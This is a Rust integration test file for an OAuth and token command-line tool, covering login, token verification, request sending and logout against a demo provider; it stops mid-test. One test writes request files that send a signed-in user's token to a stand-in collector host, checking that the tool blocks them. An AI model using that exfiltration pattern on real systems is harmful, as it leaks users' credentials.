//! Every command of the real binary against the embedded demo: what it prints where, how it ends, and what it says
//! when the provider misbehaves.
#![expect(clippy::unwrap_used, reason = "a test fails by panicking, in its helper functions too")]

#[path = "cli/export.rs"]
mod export;
#[path = "cli/findings.rs"]
mod findings;
#[path = "cli/matrix.rs"]
mod matrix;
#[path = "cli/probe.rs"]
mod probe;
mod support;
#[path = "cli/variables.rs"]
mod variables;

use std::process::Stdio;
use std::time::Duration;

use bearcat::demo::directory::{ADMIN, AUDIENCE, DEVICE_CLIENT, JANE, M2M_CLIENT, SPA_CLIENT};
use bearcat::demo::faults::{DeviceDecision, Faults};
use bearcat::demo::mishap::{Endpoint, Mishap};
use bearcat::demo::token_fault::{SignatureFault, TokenFault};
use rstest::rstest;
use serde_json::{Value, json};
use support::world::{PASSPHRASE, Ran, Running, World, free_port};

fn finding_ids(sent: &Value) -> Vec<&str> {
    sent["findings"].as_array().unwrap().iter().map(|finding| finding["id"].as_str().unwrap()).collect()
}

fn standing(token: &Value) -> &str {
    token["verdict"]["standing"].as_str().unwrap_or("missing")
}

// Sign-in ---------------------------------------------------------------------------------------------------------

#[test]
fn client_credentials_of_the_workspace() {
    let world = World::new();
    let result = world.run(&["login", "--name", "machine", "--json"]).expect(0).json();
    assert_eq!(result["identity"], "machine");
    assert_eq!(result["refresh"], false);
    assert_eq!(standing(&result["access"]), "verified", "{result:#}");
    assert_eq!(world.demo.token_posts("client_credentials"), 1);
    // The identity stands in the workspace: nothing is written for it.
    assert!(!world.home().join("bearcat-home/config/http-client.env.json").exists());

    world.run(&["whoami", "--as", "machine"]).expect(0).prints(&["machine", world.issuer(), "verified"]);
    world.run(&["send", "orders.http#orders", "--as", "machine"]).expect(0).prints(&["Desk lamp"]);
}

#[test]
fn client_credentials_by_flags_with_the_secret_in_the_environment() {
    let world = World::new();
    let args = [
        "login",
        world.issuer(),
        "--client-credentials",
        "--client-id",
        M2M_CLIENT.id,
        "--audience",
        AUDIENCE,
        "--name",
        "nightly",
    ];
    world.run(&args).expect(2).says(&["client secret", "BEARCAT_CLIENT_SECRET"]);
    let secret = M2M_CLIENT.secret.unwrap();
    let ran = Ran::of(&args, world.bearcat(&args).env("BEARCAT_CLIENT_SECRET", secret)).expect(0);
    assert!(!ran.out.contains(secret) && !ran.err.contains(secret), "{ran}");

    // Remembered for the next command, without the secret.
    let file = std::fs::read_to_string(world.home().join("bearcat-home/config/http-client.env.json")).unwrap();
    assert!(file.contains("nightly") && file.contains(M2M_CLIENT.id) && !file.contains(secret), "{file}");
    let session = world.run(&["whoami", "--as", "nightly", "--json"]).expect(0).json();
    assert_eq!(standing(&session["access"]), "verified", "{session:#}");
    assert_eq!(session["scopes"].as_array().map(Vec::len), Some(2), "{session:#}");

    let ran = Ran::of(&args, world.bearcat(&args).env("BEARCAT_CLIENT_SECRET", "not-the-secret-at-all"));
    ran.expect(3).says(&["refused", "invalid_client", "secret"]);
}

#[test]
fn device_login_of_the_workspace() {
    let world = World::new();
    let ran = world.login_jane().expect(0);
    let verification = format!("{}/device", world.issuer());
    let ran = ran.says(&[&verification, "Ctrl+C cancels"]).prints(&["Signed in as", JANE, "(jane)", "verified"]);
    assert!(!ran.out.contains("No refresh token"), "{ran}");

    let session = world.run(&["whoami", "--as", "jane", "--json"]).expect(0).json();
    assert_eq!(session["who"], JANE);
    assert_eq!(session["refresh"], true);
    assert_eq!(session["permissions"], json!(["read:orders"]));
    assert_eq!(session["org_code"], "org_acme");
    assert_eq!(standing(&session["access"]), "verified", "{session:#}");
    assert_eq!(standing(&session["id"]), "verified", "{session:#}");
    world.run(&["whoami", "--as", "jane"]).expect(0).prints(&[JANE, "org_acme", "read:orders", "refreshes    yes"]);
}

#[test]
fn device_login_with_nothing_but_flags() {
    let world = World::new();
    std::fs::remove_dir_all(world.work()).unwrap();
    std::fs::create_dir(world.work()).unwrap();
    let args = ["login", world.issuer(), "--client-id", DEVICE_CLIENT.id, "--audience", AUDIENCE, "--json"];
    let result = world.login_by_device(&args).expect(0).json();
    // An address has no label to name it after.
    assert_eq!(result["identity"], "default", "{result:#}");
    world.run(&["whoami"]).expect(0).prints(&[JANE, "default"]);
}

#[test]
fn browser_login_with_pkce() {
    let world = World::new();
    let port = free_port().to_string();
    let args = ["login", "--name", "admin", "--port", &port, "--no-browser", "--json"];
    let ran = world.login_by_browser(&args, ADMIN).expect(0);
    let callback = format!("http://127.0.0.1:{port}/callback");
    let ran = ran.says(&[&callback]);
    let result = ran.json();
    assert_eq!(result["who"], ADMIN);
    assert_eq!(standing(&result["id"]), "verified", "{result:#}");
    let asked = world.demo.log().into_iter().find(|seen| seen.path == "/oauth2/auth").unwrap();
    assert_eq!(asked.field("code_challenge_method"), Some("S256"));
    assert_eq!(asked.field("redirect_uri"), Some(callback.as_str()));
    assert_eq!(asked.field("login_hint"), Some(ADMIN));
    world.run(&["send", "orders.http#4", "--as", "admin"]).expect(0).says(&["201"]);
}

#[test]
fn browser_login_says_what_went_wrong_in_the_browser() {
    let world = World::with(|faults| faults.authorization_error = Some("access_denied".to_owned()));
    let port = free_port().to_string();
    let args = ["login", world.issuer(), "--pkce", "--client-id", SPA_CLIENT.id, "--port", &port, "--no-browser"];
    let login = Running::start(&args, &mut world.bearcat(&args));
    let (login, url) =
        login.until(|line| line.split_whitespace().find(|word| word.contains("code_challenge=")).map(str::to_owned));
    let _ = world.visit(&url, JANE);
    login.finish().expect(3).says(&["access_denied"]);
}

#[test]
fn a_callback_port_in_use_is_named() {
    let world = World::new();
    let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = taken.local_addr().unwrap().port().to_string();
    let args = ["login", "--name", "admin", "--port", &port, "--no-browser"];
    world.run(&args).expect(3).says(&[&port]);
}

#[test]
fn the_first_free_callback_port_is_taken() {
    let world = World::new();
    let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let free = free_port();
    let ports = format!("{},{free}", taken.local_addr().unwrap().port());
    let args = ["login", "--name", "admin", "--port", &ports, "--no-browser"];
    world.login_by_browser(&args, ADMIN).expect(0).says(&[&format!("http://127.0.0.1:{free}/callback")]);
}

#[test]
#[cfg(unix)]
fn the_callback_can_be_pasted_into_the_terminal() {
    let world = World::new();
    let port = free_port().to_string();
    let args = [
        "login",
        world.issuer(),
        "--pkce",
        "--client-id",
        SPA_CLIENT.id,
        "--name",
        "far",
        "--port",
        &port,
        "--no-browser",
    ];
    let environment = [("BEARCAT_VAULT", "file"), ("BEARCAT_PASSPHRASE", PASSPHRASE)];
    // Wide enough for the address to stand on one line.
    let mut terminal = support::Tui::start_with(&world.home(), &args, 2000, 50, &environment);
    let screen = terminal.wait_for("paste here");
    let url = screen.split_whitespace().find(|word| word.contains("code_challenge=")).unwrap();
    let callback = world.block_on(bearcat::demo::browser::sign_in(&url.parse().unwrap(), JANE)).unwrap();
    terminal.press("http://127.0.0.1/callback?code=of-another-sign-in&state=wrong\r");
    terminal.press(&format!("{callback}\r"));
    let (code, ended) = terminal.wait_exit();
    assert_eq!(code, 0, "{}", ended.screen);
    assert!(ended.screen.contains("Signed in as"), "{}", ended.screen);
}

#[test]
fn a_pasted_token_is_kept() {
    let world = World::new();
    world.login_machine();
    let token = world.run(&["token", "--as", "machine"]).expect(0).out.trim().to_owned();
    let args = ["login", world.issuer(), "--paste", "--name", "pat", "--json"];
    let input = format!("Authorization: Bearer {token}\n");
    let result = Ran::with_input(&args, &mut world.bearcat(&args), &input).expect(0).json();
    assert_eq!(standing(&result["access"]), "verified", "{result:#}");
    assert_eq!(world.run(&["token", "--as", "pat"]).expect(0).out.trim(), token);
    world.run(&["send", "orders.http#orders", "--as", "pat"]).expect(0);
    world.run(&["token", "--as", "pat", "--refresh"]).expect(3).says(&["pasted", "refresh"]);

    // Without an issuer too: then it cannot be verified.
    let args = ["login", "--paste", "--name", "loose"];
    Ran::with_input(&args, &mut world.bearcat(&args), &token).expect(0).prints(&["not verified"]);
    assert_eq!(world.run(&["token", "--as", "loose"]).expect(0).out.trim(), token);
    Ran::with_input(&args, &mut world.bearcat(&args), " \n").expect(2).says(&["No token was given"]);
}

// Token -----------------------------------------------------------------------------------------------------------

#[test]
fn token_prints_decodes_and_verifies_the_sessions_own() {
    let world = World::new();
    world.login_jane().expect(0);
    let printed = world.run(&["token", "--as", "jane"]).expect(0);
    assert_eq!(printed.out.trim().matches('.').count(), 2);
    assert_eq!(printed.err, "");
    let id = world.run(&["token", "--as", "jane", "--id"]).expect(0);
    assert_ne!(id.out, printed.out);

    let decoded = world.run(&["token", "--as", "jane", "--decode", "--json"]).expect(0).json();
    assert_eq!(decoded["header"]["alg"], "RS256");
    assert_eq!(decoded["claims"]["iss"], world.issuer());
    assert!(decoded.get("verdict").is_none());
    let text = world.run(&["token", "--as", "jane", "--decode"]).expect(0).prints(&["RS256", "not verified"]);
    assert!(!text.out.contains("eyJ"), "{text}");

    let verified = world.run(&["token", "--as", "jane", "--verify", "--json"]).expect(0).json();
    assert_eq!(standing(&verified), "verified", "{verified:#}");
    let verified = world.run(&["token", "--as", "jane", "--id", "--verify", "--json"]).expect(0).json();
    assert_eq!(standing(&verified), "verified", "{verified:#}");
    world.run(&["token", "--as", "jane", "--verify"]).expect(0).prints(&["✔ verified", "signature", "issuer"]);
    // Expectations of one's own.
    let other = ["token", "--as", "jane", "--verify", "--audience", "https://other.test"];
    world.run(&other).expect(1).prints(&["✘ rejected", "audience", "https://other.test"]);
}

#[test]
fn token_takes_any_token() {
    let world = World::new();
    world.login_machine();
    let token = world.run(&["token", "--as", "machine"]).expect(0).out;
    let decoded = world.run(&["token", token.trim(), "--json"]).expect(0).json();
    assert_eq!(decoded["claims"]["azp"], M2M_CLIENT.id);

    // By standard input, away from any workspace: the issuer has to be named.
    let args = ["token", "-", "--verify"];
    let elsewhere = world.root().join("tmp");
    let outside =
        |args: &[&str], input: &str| Ran::with_input(args, world.bearcat(args).current_dir(&elsewhere), input);
    outside(&args, &token).expect(2).says(&["Which issuer", world.issuer(), "--issuer"]);
    let args = ["token", "-", "--verify", "--json", "--issuer", world.issuer()];
    assert_eq!(standing(&outside(&args, &token).expect(0).json()), "verified");

    let mut tampered = token.trim().to_owned();
    let middle = tampered.rfind('.').unwrap() + 10;
    let other = if &tampered[middle..=middle] == "A" { "B" } else { "A" };
    tampered.replace_range(middle..=middle, other);
    let ran = outside(&args, &tampered).expect(1);
    assert_eq!(standing(&ran.json()), "rejected", "{ran}");

    for (input, says) in [("ory_at_0123456789abcdef", "opaque"), ("eyJhbGciOi.e30.c2ln", "broken")] {
        outside(&["token", "-"], input).expect(0).prints(&[says]);
    }
    outside(&["token", "-"], " \n").expect(2).says(&["No token was given"]);
}

#[test]
fn token_for_a_request_tells_before_sending_whether_it_would_pass() {
    let world = World::new();
    let judged = world.run(&["token", "--for", "orders.http#orders", "--json"]).expect(1).json();
    assert_eq!((&judged["answer"], &judged["checks"][0]["id"]), (&json!("fail"), &json!("session")), "{judged:#}");
    world.login_jane().expect(0);
    world.login_machine();
    let judged = world.run(&["token", "--for", "orders.http#orders", "--json"]).expect(0).json();
    assert_eq!((&judged["answer"], &judged["identity"]), (&json!("pass"), &json!("jane")), "{judged:#}");
    let ids: Vec<&str> = judged["checks"].as_array().unwrap().iter().map(|one| one["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["origin", "token", "expiry", "audience", "permissions"]);
    world.run(&["token", "--for", "orders.http#orders"]).expect(0).prints(&["It will pass", "✔ permissions"]);

    // Jane lacks the permission; the machine has it as a scope. Nothing is sent to find that out.
    let judged = world.run(&["token", "--for", "mistakes.http#4", "--json"]).expect(1).json();
    assert_eq!(judged["answer"], "fail");
    let others = judged["others"].as_array().unwrap();
    let machine = others.iter().find(|one| one["identity"] == "machine").unwrap();
    assert_eq!(machine["answer"], "pass", "{judged:#}");
    let ran = world.run(&["token", "--for", "mistakes.http#4"]).expect(1);
    ran.prints(&["✘ It will not pass: permissions", "create:orders", "machine: It will pass"]);
    world.run(&["token", "--for", "mistakes.http#4", "--as", "machine"]).expect(0).prints(&["It will pass"]);
    assert_eq!(world.demo.count(|seen| seen.path.starts_with("/api/")), 0, "nothing was sent");

    // Another origin, and an audience that was never asked for.
    world.write("else.http", "# @auth jane\nGET https://api.elsewhere.test/x\n");
    world.run(&["token", "--for", "else.http"]).expect(1).prints(&["origin", "https://api.elsewhere.test"]);
    world.write("cookie.http", "# @auth machine cookie\nGET http://127.0.0.1:9/x\n");
    world.run(&["token", "--for", "cookie.http"]).expect(1).prints(&["carrier", "ID token"]);
    world.run(&["token", "--for", "nothing.http"]).expect(2).says(&["There is no file"]);
}

#[test]
fn tokens_are_compared_and_measured() {
    let world = World::new();
    world.login_jane().expect(0);
    world.login_machine();
    let machine = world.run(&["token", "--as", "machine"]).expect(0).out;
    let jane = world.run(&["token", "--as", "jane"]).expect(0).out;
    let args = ["token", "--as", "jane", "--compare", machine.trim(), "--json"];
    let compared = world.run(&args).expect(0).json();
    let change =
        |name: &str| compared["changes"].as_array().unwrap().iter().find(|one| one["claim"] == name).unwrap().clone();
    assert_eq!((&change("sub")["kind"], &change("gty")["kind"]), (&json!("added"), &json!("removed")));
    assert_eq!(change("permissions")["new"], json!(["read:orders"]));
    assert!(compared["routine"].as_array().unwrap().contains(&json!("jti")), "{compared:#}");
    // Standard input; any token with any other; also the JSON of a token response.
    let args = ["token", machine.trim(), "--compare", "-"];
    let response = json!({ "access_token": jane.trim(), "expires_in": 60 }).to_string();
    let ran = Ran::with_input(&args, &mut world.bearcat(&args), &response).expect(0);
    let ran = ran.prints(&["+ gty", "- sub", "as always"]).says(&["access_token"]);
    assert!(!ran.out.contains("eyJ") && !ran.err.contains("eyJ"), "{ran}");
    let same = world.run(&["token", "--as", "jane", "--compare", jane.trim()]).expect(0);
    same.prints(&["no claim that says something differs"]);
    world.run(&["token", "--as", "jane", "--compare", "k_live_0123456789"]).expect(1).prints(&["no claims"]);

    let size = world.run(&["token", "--as", "jane", "--size", "--json"]).expect(0).json();
    assert_eq!((&size["token"], &size["cookies"]), (&json!(jane.trim().len()), &json!(2)), "{size:#}");
    assert_eq!((&size["bearer_fits"], &size["cookie_part"]), (&json!("below-8k"), &json!(3000)));
    world.run(&["token", &"x".repeat(9000), "--size"]).expect(0).prints(&["9000 bytes", "3 of at most 3000", "8 KiB"]);
}

#[test]
fn whoami_live_shows_what_has_changed_and_renewing_brings_it_into_the_token() {
    let world = World::new();
    world.login_jane().expect(0);
    let live = world.run(&["whoami", "--live", "--as", "jane", "--json"]).expect(0).json();
    let rows = |live: &Value, what: &str| {
        live["live"]["rows"].as_array().unwrap().iter().find(|row| row["what"] == what).unwrap().clone()
    };
    assert_eq!(rows(&live, "permissions")["agreement"], "same", "{live:#}");
    assert!(world.demo.set_permissions(JANE, &["read:orders", "create:orders"]));
    let live = world.run(&["whoami", "--live", "--as", "jane", "--json"]).expect(0).json();
    let permissions = rows(&live, "permissions");
    assert_eq!(
        (&permissions["token"], &permissions["provider"], &permissions["agreement"]),
        (&json!("read:orders"), &json!("create:orders, read:orders"), &json!("differs"))
    );
    assert_eq!(rows(&live, "email")["agreement"], "same");
    let ran = world.run(&["whoami", "--live", "--as", "jane"]).expect(0);
    ran.prints(&["✘ permissions", "the token says read:orders", "seats = 25"]).says(&["--renew"]);

    let before = world.run(&["token", "--as", "jane"]).expect(0).out;
    world.run(&["token", "--as", "jane", "--refresh"]).expect(0).prints(&[before.trim()]);
    let renewed = world.run(&["token", "--as", "jane", "--renew", "--json"]).expect(0).json();
    assert_eq!(renewed["same_token"], false);
    assert_eq!(renewed["changes"][0]["gained"], json!(["create:orders"]), "{renewed:#}");
    assert_ne!(world.run(&["token", "--as", "jane"]).expect(0).out, before);
    let live = world.run(&["whoami", "--live", "--as", "jane", "--json"]).expect(0).json();
    assert_eq!(rows(&live, "permissions")["agreement"], "same", "{live:#}");
    world.run(&["token", "--as", "jane", "--renew"]).expect(0).prints(&["revoked and renewed", "no claim"]);

    world.demo.faults().plan(Endpoint::Token, Mishap::ServerError, Some(1));
    let ran = world.run(&["token", "--as", "jane", "--renew"]).expect(4);
    ran.says(&["The access token was revoked, but no new one was given", "--refresh"]);
    world.run(&["token", "--as", "jane", "--refresh"]).expect(0);
    world.login_machine();
    world.run(&["whoami", "--live", "--as", "machine"]).expect(2).says(&["no user"]);
}

#[test]
fn a_session_is_refreshed_when_it_is_due_and_when_it_is_asked_for() {
    let world = World::with(|faults| faults.access_lifetime = 90);
    world.login_jane().expect(0);
    let first = world.run(&["token", "--as", "jane"]).expect(0).out;
    assert_eq!(world.demo.token_posts("refresh_token"), 0, "90 s are enough");
    world.demo.faults().update(|faults| faults.always_new_access_token = true);
    let second = world.run(&["token", "--as", "jane", "--refresh"]).expect(0).out;
    assert_ne!(first, second);
    assert_eq!(world.demo.token_posts("refresh_token"), 1);
    // From now on tokens are due as soon as they are given.
    world.demo.faults().update(|faults| faults.access_lifetime = 0);
    world.run(&["token", "--as", "jane", "--refresh"]).expect(0);
    world.demo.faults().update(|faults| faults.access_lifetime = 86_400);
    world.run(&["send", "orders.http#orders", "--as", "jane"]).expect(0);
    assert_eq!(world.demo.token_posts("refresh_token"), 3, "sending refreshes what is due");
}

// Sending ---------------------------------------------------------------------------------------------------------

#[test]
fn send_prints_the_body_and_tells_the_rest_on_standard_error() {
    let world = World::new();
    world.login_jane().expect(0);
    let ran = world.run(&["send", "orders.http#orders"]).expect(0);
    let body: Value = ran.json();
    assert!(body.to_string().contains("Brook & Sons"), "{ran}");
    let ran = ran.says(&["200 OK", "token of jane (bearer)", "verified"]);
    assert!(!ran.err.contains("why:"), "{ran}");
    world.run(&["send", "orders.http#orders", "-i"]).expect(0).says(&["content-type: application/json", "signature"]);
    world.run(&["send", "orders.http#3"]).expect(0).says(&["200 OK"]);
}

#[test]
fn send_explains_refusals() {
    let world = World::new();
    world.login_jane().expect(0);
    let ran = world.run(&["send", "mistakes.http#1"]).expect(3);
    ran.says(&["401 Unauthorized", "why:", "because:", "→"]);
    let sent = world.run(&["send", "mistakes.http#1", "--json"]).expect(3).json();
    assert_eq!(finding_ids(&sent)[0], "api-verifies-wrongly", "{sent:#}");
    assert_eq!(sent["response"]["status"], 401);
    assert_eq!(standing(&sent["token"]), "verified");
    for finding in sent["findings"].as_array().unwrap() {
        for part in ["id", "title", "evidence", "confidence", "fix"] {
            assert!(!finding[part].is_null(), "{part}: {finding:#}");
        }
    }
    let sent = world.run(&["send", "mistakes.http#2", "--json"]).expect(3).json();
    assert_eq!(finding_ids(&sent), ["no-token-sent"]);
    assert!(sent["token"].is_null());
    world.run(&["send", "mistakes.http#4", "--json"]).expect(3).prints(&["create:orders"]);
}

#[test]
fn a_token_that_is_good_by_the_leeway_only_is_called_expired() {
    let world = World::with(|faults| {
        faults.access_lifetime = 0;
        faults.omit_refresh_token = true;
    });
    world.login_jane().expect(0).prints(&["No refresh token"]);
    let token = world.run(&["token", "--as", "jane"]).expect(3).says(&["cannot be refreshed", "offline"]);
    assert_eq!(token.out, "");
    world.demo.faults().update(|faults| faults.omit_refresh_token = false);
    world.login_jane().expect(0);
    // Each refresh gives a token that has expired when it arrives.
    let sent = world.run(&["send", "orders.http#orders", "--json"]).expect(3).json();
    assert_eq!(sent["response"]["status"], 401);
    assert_eq!(finding_ids(&sent), ["token-expired"], "{sent:#}");
}

#[test]
fn send_knows_the_nextjs_middleware_and_its_cookies() {
    let world = World::new();
    world.login_jane().expect(0);
    let sent = world.run(&["send", "nextjs.http#1", "--json"]).expect(3).json();
    assert_eq!(sent["response"]["status"], 307);
    assert_eq!(finding_ids(&sent)[0], "nextjs-cookies-only", "{sent:#}");
    assert_eq!(sent["token"]["carrier"], "bearer");
    let sent = world.run(&["send", "nextjs.http#1", "--cookie", "--json"]).expect(0).json();
    assert_eq!(sent["response"]["status"], 200);
    assert_eq!(sent["token"]["carrier"], "cookie");
    world.run(&["send", "nextjs.http#2"]).expect(0).says(&["token of jane (cookies)"]);

    let sent = world.run(&["send", "nextjs.http#SDK 2.12: POST is redirected too, with its method kept", "--json"]);
    let sent = sent.expect(3).json();
    assert_eq!(sent["response"]["status"], 405);
    assert_eq!(sent["hops"].as_array().map(Vec::len), Some(1), "{sent:#}");
    let sent = world.run(&["send", "nextjs.http#1", "--redirect", "5", "--json"]).json();
    assert!(!sent["hops"].as_array().unwrap().is_empty(), "{sent:#}");
}

#[test]
fn send_fills_variables_and_writes_bodies_to_files() {
    let world = World::new();
    world.write("echo.http", "POST {{base}}/test/echo?who={{who}}\n\nhello {{who}}\n");
    let ran = world.run(&["send", "echo.http", "--as", "anonymous"]).expect(2);
    ran.says(&["echo.http:1:", "who"]);
    let ran = world.run(&["send", "echo.http", "--as", "anonymous", "--var", "who=zoe"]).expect(0);
    assert!(ran.out.contains("zoe"), "{ran}");
    world.run(&["send", "echo.http", "--as", "anonymous", "--var", "who"]).expect(2).says(&["--var who", "="]);

    let args = ["send", "echo.http", "--as", "anonymous", "--var", "who=zoe", "-o", "body.json"];
    let ran = world.run(&args).expect(0);
    assert_eq!(ran.out, "");
    assert!(std::fs::read_to_string(world.work().join("body.json")).unwrap().contains("zoe"));
    let args = ["send", "echo.http", "--as", "anonymous", "--var", "who=zoe", "-o", "no/such/folder/body.json"];
    world.run(&args).expect(2).says(&["could not be written"]);
}

#[test]
fn send_says_which_requests_there_are() {
    let world = World::new();
    world.run(&["send", "orders.http"]).expect(2).says(&["which one", "#1 orders", "Ping", "orders.http#NAME"]);
    world.run(&["send", "orders.http#nothing"]).expect(2).says(&["no request `nothing`", "Ping"]);
    world.run(&["send", "orders.http#0"]).expect(2).says(&["no request `0`"]);
    world.run(&["send", "absent.http"]).expect(2).says(&["absent.http"]);
    world.write("empty.http", "# nothing here\n");
    world.run(&["send", "empty.http"]).expect(2).says(&["empty.http"]);
}

#[test]
fn a_token_goes_only_where_it_is_allowed() {
    let world = World::new();
    world.login_jane().expect(0);
    // The same API under a name that is no loopback literal to bearcat: nobody resolves it, and nobody needs to.
    world.write("steal.http", "# @auth jane\nGET http://collector.example.test/\n");
    let ran = world.run(&["send", "steal.http"]).expect(2);
    ran.says(&["jane", "http://collector.example.test", "--allow-origin http://collector.example.test"]);
    world.write("sneak.http", "# @no-auth\nGET http://collector.example.test/?t={{$auth.token(\"jane\")}}\n");
    world.run(&["send", "sneak.http"]).expect(2).says(&["--allow-origin http://collector.example.test"]);
    let args = ["send", "steal.http", "--allow-origin", "http://collector.example.test"];
    // Allowed: what stops it now is that the host does not exist.
    world.run(&args).expect(4).says(&["collector.example.test"]);
    let args = ["send", "steal.http", "--allow-origin", "http://somebody.else.test"];
    world.run(&args).expect(2).says(&["collector.example.test"]);
    world.run(&["send", "steal.http", "--allow-origin", "not an origin"]).expect(2).says(&["not an origin"]);
    // Redirects to another origin lose the token.
    let sent = world.run(&["send", "trial.http#A redirect to another host", "--json"]).expect(0).json();
    assert_eq!(sent["hops"].as_array().map(Vec::len), Some(1), "{sent:#}");
    assert_ne!(sent["hops"][0]["credentials_dropped"], json!([]), "{sent:#}");
}

#[test]
fn send_without_a_session_says_how_to_sign_in() {
    let world = World::new();
    world.run(&["send", "orders.http#orders"]).expect(3).says(&["jane", "not signed in", "bearcat login"]);
    world.run(&["send", "orders.http#Ping"]).expect(0);
    world.run(&["send", "orders.http#orders", "--as", "nobody"]).expect(2).says(&["no identity `nobody`", "jane"]);
    world.run(&["send", "orders.http#orders", "--env", "moon"]).expect(2).says(&["no environment `moon`", "demo"]);
}

#[rstest]
#[case("/test/reset", 4, "closed the connection")]
#[case("/test/close", 4, "closed the connection")]
#[case("/test/not-http", 4, "not proper HTTP")]
fn servers_that_break_the_connection(#[case] path: &str, #[case] code: i32, #[case] says: &str) {
    let world = World::new();
    world.write("one.http", &format!("# @no-auth\n# @timeout 20 s\nGET {{{{base}}}}{path}\n"));
    world.run(&["send", "one.http"]).expect(code).says(&[says]);
}

#[rstest]
#[case("/test/wrong-length")]
#[case("/test/bad-gzip")]
fn bodies_that_are_not_whole_are_told(#[case] path: &str) {
    let world = World::new();
    world.write("one.http", &format!("# @no-auth\nGET {{{{base}}}}{path}\n"));
    world.run(&["send", "one.http"]).expect(0).says(&["The body is not whole"]);
    let sent = world.run(&["send", "one.http", "--json"]).expect(0).json();
    assert!(sent["response"]["fault"].is_string(), "{sent:#}");
}

#[test]
fn servers_that_hang_are_given_up() {
    let world = World::new();
    world.write("hang.http", "# @no-auth\n# @timeout 300 ms\nGET {{base}}/test/hang\n");
    world.run(&["send", "hang.http"]).expect(4).says(&["did not answer in time"]);
    let gone = free_port();
    world.write("gone.http", &format!("# @no-auth\nGET http://127.0.0.1:{gone}/\n"));
    let ran = world.run(&["send", "gone.http", "--json"]).expect(4).says(&["Nothing answers", &gone.to_string()]);
    assert_eq!(ran.json()["error"]["kind"], "network");
}

/// Each event is on standard output before the server sends the next one.
#[test]
fn a_stream_is_printed_as_it_comes() {
    use std::io::{BufRead, BufReader, Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (drip, drops) = std::sync::mpsc::channel::<&str>();
    std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let _ = stream.read(&mut [0; 4096]);
        let head = b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n";
        stream.write_all(head).unwrap();
        for piece in drops {
            stream.write_all(format!("{:x}\r\n{piece}\r\n", piece.len()).as_bytes()).unwrap();
        }
        stream.write_all(b"0\r\n\r\n").unwrap();
    });
    let world = World::new();
    world.write("stream.http", &format!("# @no-auth\nGET http://127.0.0.1:{port}/\n"));
    let args = ["send", "stream.http"];
    let mut child = world.bearcat(&args).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    for event in ["data: one", "data: two"] {
        drip.send(if event.ends_with("one") { "data: one\n" } else { "data: two\n" }).unwrap();
        assert_eq!(lines.next().unwrap().unwrap(), event);
    }
    drop(drip);
    assert!(lines.next().is_none());
    assert_eq!(child.wait().unwrap().code(), Some(0));
}

#[test]
fn control_characters_stay_off_the_terminal() {
    let world = World::new();
    let ran = world.run(&["send", "trial.http#Terminal escape sequences", "-i"]).expect(0);
    assert!(!ran.err.contains('\x1b'), "{ran:?}");
}

// Logout ----------------------------------------------------------------------------------------------------------

#[test]
fn logout_revokes_and_forgets() {
    let world = World::new();
    world.login_jane().expect(0);
    let token = world.run(&["token", "--as", "jane"]).expect(0).out;
    world.run(&["logout", "jane"]).expect(0).prints(&["Logged out: jane"]);
    let revocations = world.demo.count(|seen| seen.path == "/oauth2/revoke" && seen.status == Some(200));
    assert!(revocations >= 1, "{:?}", world.demo.log());
    world.run(&["whoami", "--as", "jane"]).expect(3).says(&["`jane` is not signed in", "bearcat login"]);
    world.run(&["token", "--as", "jane"]).expect(3);
    // The access token is gone for the API too.
    world.write("old.http", &format!("# @no-auth\nGET {{{{base}}}}/api/v1/me\nAuthorization: Bearer {token}"));
    let sent = world.run(&["send", "old.http", "--json"]);
    assert!(matches!(sent.json()["response"]["status"].as_u64(), Some(200 | 401)), "{sent}");
    // Again: fine.
    world.run(&["logout", "jane"]).expect(0);
}

#[test]
fn logout_of_everything_and_with_a_provider_that_is_down() {
    let world = World::new();
    world.run(&["logout", "--all"]).expect(0).prints(&["No sessions"]);
    world.login_jane().expect(0);
    world.login_machine();
    world.demo.faults().plan(Endpoint::Revocation, Mishap::ServerError, None);
    let ran = world.run(&["logout", "--all", "--json"]);
    let mut names: Vec<_> = ran.json()["logged_out"].as_array().unwrap().clone();
    names.sort_by_key(ToString::to_string);
    assert_eq!(names, [json!("jane"), json!("machine")], "{ran}");
    // Forgotten here although the provider could not be told.
    world.run(&["whoami", "--as", "jane"]).expect(3);
    world.run(&["whoami", "--as", "machine"]).expect(3);
}

// Vaults ----------------------------------------------------------------------------------------------------------

#[test]
fn without_a_keyring_login_says_so_before_the_provider_is_asked() {
    let world = World::new();
    let args = ["login", "--name", "machine"];
    let ran = Ran::of(&args, &mut world.plain(&args)).expect(3);
    ran.says(&["No keyring", "--vault memory", "--vault file"]);
    assert_eq!(world.demo.log(), [], "nobody was asked");
    let args = ["whoami", "--as", "machine"];
    Ran::of(&args, &mut world.plain(&args)).expect(3).says(&["No keyring"]);
}

#[test]
fn memory_forgets_and_says_so() {
    let world = World::new();
    let args = ["login", "--name", "machine", "--vault", "memory"];
    Ran::of(&args, &mut world.plain(&args)).expect(0).says(&["kept in memory"]);
    let args = ["whoami", "--as", "machine", "--vault", "memory"];
    Ran::of(&args, &mut world.plain(&args)).expect(3).says(&["not signed in"]);
}

#[test]
fn the_vault_file_wants_its_passphrase() {
    let world = World::new();
    let args = ["login", "--name", "machine", "--vault", "file"];
    Ran::of(&args, &mut world.plain(&args)).expect(3).says(&["BEARCAT_PASSPHRASE"]);
    world.login_machine();
    let args = ["whoami", "--as", "machine"];
    let ran = Ran::of(&args, world.bearcat(&args).env("BEARCAT_PASSPHRASE", "not the passphrase")).expect(3);
    let ran = ran.says(&["passphrase does not open"]);
    assert!(!ran.err.contains("not the passphrase") && !ran.err.contains(PASSPHRASE), "{ran}");
    let file = world.home().join("bearcat-home/data/vault.bearcat");
    std::fs::write(&file, b"this is no vault").unwrap();
    world.run(&args).expect(3).says(&["vault"]);
    assert_eq!(std::fs::read(&file).unwrap(), b"this is no vault", "it is left alone");
}

/// The files of a folder that somebody else wrote name the identities.
#[test]
fn the_name_of_an_identity_cannot_steer_the_terminal() {
    let world = World::new();
    for file in ["http-client.env.json", "http-client.private.env.json"] {
